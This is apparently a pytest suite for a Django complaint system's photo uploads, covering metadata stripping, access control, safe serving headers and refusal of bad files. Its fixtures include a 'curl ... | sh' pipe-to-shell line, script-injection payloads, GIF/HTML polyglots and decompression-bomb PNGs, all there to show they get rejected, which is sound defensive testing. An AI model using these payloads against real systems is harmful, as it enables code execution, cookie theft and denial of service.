"""Uploaded photos: only real images are kept, stripped of metadata under random names, and served only to
those who may see the demand, with headers that keep a file from ever acting as a page."""

import io
import os
import re
import struct
import time
import zlib

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from PIL import ExifTags, Image, PngImagePlugin
from rest_framework.test import APIClient

from demands.models import Demand, DemandAttachment
from demands.states import Status
from integrations.models import ApiToken
from integrations.services import integration_create

from .conftest import PASSWORD, photo, png_bytes

pytestmark = pytest.mark.django_db

CONTENT = "门口的井盖丢了，晚上很危险。"
HIDDEN_CODE = "the file hides web page or script code; only plain photos are accepted."


def zh(msgid: str) -> str:
    with translation.override("zh-hans"):
        return translation.gettext(msgid)


def jpeg_bytes(size=(64, 48), **save_options) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(buf, "JPEG", **save_options)
    return buf.getvalue()


def gps_jpeg() -> bytes:
    """A camera photo as a phone takes it: the make, and where it was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Secret Camera"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (31.0, 51.0, 30.5),
        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (106.0, 44.0, 12.0),
    }
    data = jpeg_bytes(exif=exif)
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test photo does carry GPS
    return data


def gif_html_polyglot() -> bytes:
    """A valid GIF whose comment block is a web page (opened as HTML, it runs the script)."""
    buf = io.BytesIO()
    Image.new("P", (4, 4)).save(buf, "GIF", comment=b"<html><body><script>alert(document.cookie)</script>")
    return buf.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a huge picture: decoding it would take gigabytes."""
    data = bytearray(png_bytes(mode="L", size=(1, 1)))
    ihdr = struct.pack(">II", width, height) + bytes(data[24:29])
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return bytes(data)


def submit(*files):
    from grids.models import Township

    return Client().post(reverse("demands:submit"), {
        "type": "help", "content": CONTENT, "township": Township.objects.order_by("pk").first().pk,
        "photos": list(files),
    })


def media_files() -> set[str]:
    found = set()
    for root, _dirs, files in os.walk(settings.MEDIA_ROOT):
        found.update(os.path.join(root, f) for f in files)
    return found


def stored_image(attachment):
    with attachment.file.open("rb") as f:
        data = f.read()
    return data, Image.open(io.BytesIO(data))


# ---------------------------------------------------------------- what is kept


def test_gps_position_is_gone_from_the_stored_photo(world):
    response = submit(photo("IMG_2041.jpg", gps_jpeg(), "image/jpeg"))

    assert response.status_code == 302
    data, image = stored_image(Demand.objects.get().attachments.get())
    assert image.format == "JPEG" and image.size == (64, 48)
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert len(image.getexif()) == 0 and "exif" not in image.info
    assert b"Secret Camera" not in data and b"Exif" not in data


def test_the_api_upload_strips_gps_through_the_same_check(walk, staff):
    demand = walk(Status.ACCEPTED)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {ApiToken.issue(user=staff.handler, name='t')[1]}")

    response = client.post(f"/api/v1/demands/{demand.pk}/attachments/",
                           {"photos": [photo("site.jpg", gps_jpeg(), "image/jpeg")]}, format="multipart")

    assert response.status_code == 201
    _data, image = stored_image(demand.attachments.get())
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)


def test_a_sideways_phone_photo_is_turned_upright_before_its_exif_is_dropped(world):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # "rotate 90° clockwise to display"
    submit(photo("portrait.jpg", jpeg_bytes(size=(40, 20), exif=exif), "image/jpeg"))

    _data, image = stored_image(Demand.objects.get().attachments.get())
    assert image.size == (20, 40)


def test_stored_names_are_random_and_never_the_residents_file_name(world):
    submit(photo("../../张三家门口.jpg", jpeg_bytes(), "image/jpeg"), photo("../../张三家门口.jpg", jpeg_bytes(), "image/jpeg"))

    first, second = Demand.objects.get().attachments.all()
    for attachment in (first, second):
        assert re.fullmatch(r"demands/\d{4}/\d{2}/[0-9a-f]{32}\.jpg", attachment.file.name)
        assert attachment.original_name == "张三家门口.jpg"  # kept as display text only
    assert first.file.name != second.file.name


def test_webp_is_stored_as_jpeg_and_a_transparent_png_stays_png(world):
    webp = io.BytesIO()
    Image.new("RGB", (30, 20), (200, 10, 10)).save(webp, "WEBP")
    submit(photo("a.webp", webp.getvalue(), "image/webp"), photo("logo.png", png_bytes(mode="RGBA"), "image/png"))

    kept = {a.original_name: a for a in Demand.objects.get().attachments.all()}
    assert (kept["a.webp"].content_type, stored_image(kept["a.webp"])[1].format) == ("image/jpeg", "JPEG")
    assert (kept["logo.png"].content_type, stored_image(kept["logo.png"])[1].mode) == ("image/png", "RGBA")


# ---------------------------------------------------------------- what is refused


@pytest.mark.parametrize(("name", "data", "problem"), [
    ("photo.jpg", b"<!doctype html><html><script>alert(1)</script></html>", "not a readable image file."),
    ("photo.jpg", b"#!/bin/sh\ncurl http://example.invalid | sh\n", "not a readable image file."),
    ("cat.gif", gif_html_polyglot(), "not a JPEG, PNG or WebP image."),
    ("cat.jpg", gif_html_polyglot(), "not a JPEG, PNG or WebP image."),
    ("comment.jpg", jpeg_bytes(comment=b"<script>alert(1)</script>"), HIDDEN_CODE),
    ("tail.jpg", jpeg_bytes() + b"<html><body onload=alert(1)>", HIDDEN_CODE),
    ("huge.png", png_claiming(60000, 60000), "the image has too many pixels."),
])
def test_polyglots_and_non_images_are_refused_in_chinese_and_nothing_is_saved(world, name, data, problem):
    before = media_files()

    response = submit(photo(name, data, "image/jpeg"))

    assert response.status_code == 400
    page = response.content.decode()
    assert zh(problem) in page and name in page
    assert Demand.objects.count() == 0 and DemandAttachment.objects.count() == 0
    assert media_files() == before


@pytest.mark.parametrize("compressed", [False, True])
def test_a_png_carrying_a_web_page_in_a_text_chunk_is_refused(world, compressed):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<html><iframe src=//evil.example></iframe>", zip=compressed)

    response = submit(photo("chart.png", png_bytes(pnginfo=info)))

    assert response.status_code == 400 and zh(HIDDEN_CODE) in response.content.decode()
    assert Demand.objects.count() == 0


def test_the_api_refuses_a_polyglot_with_a_json_error(walk, staff):
    demand = walk(Status.ACCEPTED)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {ApiToken.issue(user=staff.handler, name='t')[1]}")

    response = client.post(f"/api/v1/demands/{demand.pk}/attachments/",
                           {"photos": [photo("x.jpg", jpeg_bytes(comment=b"<script>x</script>"), "image/jpeg")]},
                           format="multipart")

    # A well-formed upload whose content is refused: 422 with the file named (docs/workflow.md#errors).
    assert response.status_code == 422 and "x.jpg" in response.json()["fields"]["photos"][0]
    assert demand.attachments.count() == 0


def test_limits_come_from_settings(world, settings):
    settings.MAX_PHOTO_BYTES = 1000
    too_big = submit(photo("big.jpg", jpeg_bytes(size=(400, 400)), "image/jpeg"))
    assert too_big.status_code == 400 and "big.jpg" in too_big.content.decode()

    settings.MAX_PHOTO_BYTES = 5 * 1024 * 1024
    settings.MAX_PHOTOS = 1
    too_many = submit(photo("a.png", png_bytes()), photo("b.png", png_bytes()))
    assert too_many.status_code == 400
    assert Demand.objects.count() == 0


# ---------------------------------------------------------------- who may see it, and how it is served


@pytest.fixture
def photographed(world, staff):
    """A demand in the first township, handled by the department, with one resident photo."""
    from demands import services
    from demands.models import Urgency

    demand = services.demand_receive(actor=None, type="help", content=CONTENT, township=world.township,
                                     photos=[photo("pothole.jpg", gps_jpeg(), "image/jpeg")])
    services.demand_classify(demand_id=demand.pk, actor=staff.dispatcher, type="help", category=world.category,
                             urgency=Urgency.NORMAL, grid=world.grid)
    services.demand_dispatch(demand_id=demand.pk, actor=staff.dispatcher, unit=world.department)
    return demand, demand.attachments.get()


def logged_in(user) -> Client:
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)
    return client


def test_photo_response_cannot_act_as_a_page(photographed, staff):
    demand, attachment = photographed

    response = logged_in(staff.handler).get(reverse("demands:photo", args=[attachment.token]))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    csp = response["Content-Security-Policy"]
    assert csp.startswith("sandbox") and "default-src 'none'" in csp
    assert response["Content-Disposition"].startswith("inline")
    assert "private" in response["Cache-Control"]
    assert Image.open(io.BytesIO(b"".join(response.streaming_content))).format == "JPEG"


def test_who_may_see_a_photo(photographed, staff, township_dispatcher, other_township_dispatcher):
    demand, attachment = photographed
    url = reverse("demands:photo", args=[attachment.token])

    assert logged_in(staff.handler).get(url).status_code == 200
    assert logged_in(township_dispatcher).get(url).status_code == 200
    assert logged_in(staff.supervisor).get(url).status_code == 200
    assert logged_in(other_township_dispatcher).get(url).status_code == 404
    assert logged_in(staff.other_handler).get(url).status_code == 404
    assert Client().get(url).status_code == 404
    old_style = reverse("demands:staff_photo", args=[demand.pk, attachment.token])
    assert logged_in(other_township_dispatcher).get(old_style).status_code == 404
    assert logged_in(staff.handler).get(old_style).status_code == 200


def test_the_resident_sees_the_photo_with_the_tracking_code_only(photographed, walk):
    demand, attachment = photographed
    other = walk(Status.RECEIVED)

    page = Client().get(reverse("demands:track_detail", args=[demand.tracking_code])).content.decode()
    own = reverse("demands:track_photo", args=[demand.tracking_code, attachment.token])
    assert f'src="{own}"' in page
    assert Client().get(own).status_code == 200
    assert Client().get(reverse("demands:track_photo", args=[other.tracking_code, attachment.token])).status_code == 404
    assert Client().get(reverse("demands:track_photo", args=["ABC-DEF", attachment.token])).status_code == 404


def test_staff_page_and_api_link_the_checked_view(photographed, staff, world):
    demand, attachment = photographed
    url = reverse("demands:photo", args=[attachment.token])

    page = logged_in(staff.handler).get(reverse("demands:detail", args=[demand.pk])).content.decode()
    assert f'src="{url}"' in page

    _integration, token = integration_create(name="12345热线", townships=[world.township])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    listed = api.get(f"/api/v1/demands/{demand.pk}/attachments/").json()
    assert listed[0]["url"] == f"http://testserver{url}"
    fetched = api.get(listed[0]["url"])
    assert fetched.status_code == 200 and fetched["Content-Type"] == "image/jpeg"

    _other, other_token = integration_create(name="外区热线", townships=[world.other_township])
    outsider = APIClient()
    outsider.credentials(HTTP_AUTHORIZATION=f"Token {other_token}")
    assert outsider.get(listed[0]["url"]).status_code == 404


def test_media_root_is_not_served_directly(photographed, staff):
    _demand, attachment = photographed

    assert logged_in(staff.handler).get(f"/media/{attachment.file.name}").status_code == 404


def test_older_photos_keep_working_and_anything_not_an_image_is_a_download(photographed, staff):
    demand, _attachment = photographed
    webp = io.BytesIO()
    Image.new("RGB", (8, 8)).save(webp, "WEBP")
    legacy = DemandAttachment(demand=demand, purpose="submission", token="a" * 32, extension="webp",
                              original_name="old.webp", content_type="image/webp", size=1, width=8, height=8)
    legacy.file.save("old.webp", ContentFile(webp.getvalue()), save=True)
    odd = DemandAttachment(demand=demand, purpose="submission", token="b" * 32, extension="pdf",
                           original_name="scan.pdf", content_type="application/pdf", size=1, width=0, height=0)
    odd.file.save("scan.pdf", ContentFile(b"%PDF-1.4"), save=True)
    client = logged_in(staff.handler)

    old = client.get(reverse("demands:photo", args=[legacy.token]))
    assert old.status_code == 200 and old["Content-Type"] == "image/webp"
    download = client.get(reverse("demands:photo", args=[odd.token]))
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff"


def test_a_photo_missing_on_disk_is_a_404_not_a_server_error(photographed, staff):
    _demand, attachment = photographed
    attachment.file.storage.delete(attachment.file.name)

    assert logged_in(staff.handler).get(reverse("demands:photo", args=[attachment.token])).status_code == 404


# ---------------------------------------------------------------- what a picture may cost to decode

@pytest.fixture(autouse=True)
def fresh_limits():
    from django.core.cache import cache

    cache.clear()  # every test here submits from the same address; the hourly limit is not what they test
    yield
    cache.clear()


TOO_LARGE = ("the picture is too large to process (%(width)s × %(height)s pixels); please send a smaller one, "
             "such as a photo taken with a phone camera.")


def flat_png(width: int, height: int, mode: str = "RGBA") -> bytes:
    """A one-colour PNG written row by row, so that the test itself never holds the decoded picture."""
    channels = {"RGBA": 4, "RGB": 3}[mode]

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = b"\x00" + bytes([200, 30, 30, 255][:channels]) * width
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    colour_type = {"RGBA": 6, "RGB": 2}[mode]
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


@pytest.fixture(scope="module")
def pixel_bomb() -> bytes:
    """The issue's picture: 6,324 × 6,324 RGBA, just under 40 megapixels, 160 MB decoded from a ~170 KB file."""
    return flat_png(6324, 6324)


def camera_jpeg(size=(4000, 3000)) -> bytes:
    ramp = Image.linear_gradient("L").resize(size)
    picture = Image.merge("RGB", (ramp, ramp.transpose(Image.Transpose.FLIP_LEFT_RIGHT), ramp.rotate(180)))
    buf = io.BytesIO()
    picture.save(buf, "JPEG", quality=85)
    return buf.getvalue()


def test_a_pixel_bomb_is_refused_at_once_in_chinese_without_being_decoded(world, pixel_bomb, monkeypatch):
    from PIL import ImageFile

    assert len(pixel_bomb) < 300 * 1024
    decoded = []
    real_load = ImageFile.ImageFile.load
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda image: decoded.append(image.size) or real_load(image))
    before = media_files()

    started = time.perf_counter()
    response = submit(photo("bomb.png", pixel_bomb))
    elapsed = time.perf_counter() - started

    assert response.status_code == 400 and elapsed < 1.0
    assert zh(TOO_LARGE) % {"width": 6324, "height": 6324} in response.content.decode()
    assert (6324, 6324) not in decoded
    assert Demand.objects.count() == 0 and media_files() == before


def test_three_pixel_bombs_in_one_submission_are_refused_as_fast(world, pixel_bomb):
    started = time.perf_counter()
    response = submit(photo("a.png", pixel_bomb), photo("b.png", pixel_bomb), photo("c.png", pixel_bomb))

    assert response.status_code == 400 and time.perf_counter() - started < 1.0


def test_a_blank_png_inflating_a_thousandfold_is_refused_even_within_the_decode_budget(world):
    small_file = flat_png(4000, 3000)  # 48 MB decoded from under 50 KB

    response = submit(photo("flat.png", small_file))

    assert response.status_code == 400
    assert zh(TOO_LARGE) % {"width": 4000, "height": 3000} in response.content.decode()


def test_a_phone_photo_is_kept_and_stored_downscaled(world):
    # How long it takes is bench/images.py's to say: a timed assertion fails on a busy machine, not on slow code.
    response = submit(photo("IMG_0001.jpg", camera_jpeg((4000, 3000)), "image/jpeg"))

    assert response.status_code == 302
    attachment = Demand.objects.get().attachments.get()
    _data, image = stored_image(attachment)
    assert image.format == "JPEG" and image.size == (2560, 1920)
    assert (attachment.width, attachment.height) == (2560, 1920)


def test_a_36_megapixel_camera_jpeg_is_decoded_at_half_scale_and_kept(world, monkeypatch):
    from PIL import ImageFile

    decoded = []
    real_load = ImageFile.ImageFile.load
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda image: decoded.append(image.size) or real_load(image))

    response = submit(photo("DSC_0001.jpg", camera_jpeg((6000, 6000)), "image/jpeg"))

    assert response.status_code == 302
    assert (6000, 6000) not in decoded and (3000, 3000) in decoded
    assert stored_image(Demand.objects.get().attachments.get())[1].size == (2560, 2560)


def test_the_decode_budget_comes_from_settings(world, settings):
    settings.MAX_PHOTO_DECODE_BYTES = 100 * 100 * 4

    response = submit(photo("small.png", png_bytes(size=(101, 100))))

    assert response.status_code == 400 and zh(TOO_LARGE) % {"width": 101, "height": 100} in response.content.decode()
